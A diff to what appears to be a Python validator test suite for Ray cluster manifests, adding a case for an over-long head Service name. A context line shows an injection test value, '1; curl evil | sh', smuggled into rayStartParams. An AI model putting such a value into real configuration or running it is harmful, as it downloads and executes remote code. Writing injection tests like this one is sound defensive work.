@@ -104,6 +104,12 @@ CLUSTER_CASES: list[tuple[str, Mutation, str, str]] = [
         "bound to the namespace's `default`",
     ),
     (
+        "a head Service name the apiserver would refuse",
+        lambda m: head(m).update(headService={"metadata": {"name": "x" * 100}}),
+        "spec.headGroupSpec.headService.metadata.name",
+        "must be no more than 63 characters",
+    ),
+    (
         "a command in rayStartParams",
         lambda m: head(m).update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
         "spec.headGroupSpec.rayStartParams.num-cpus",
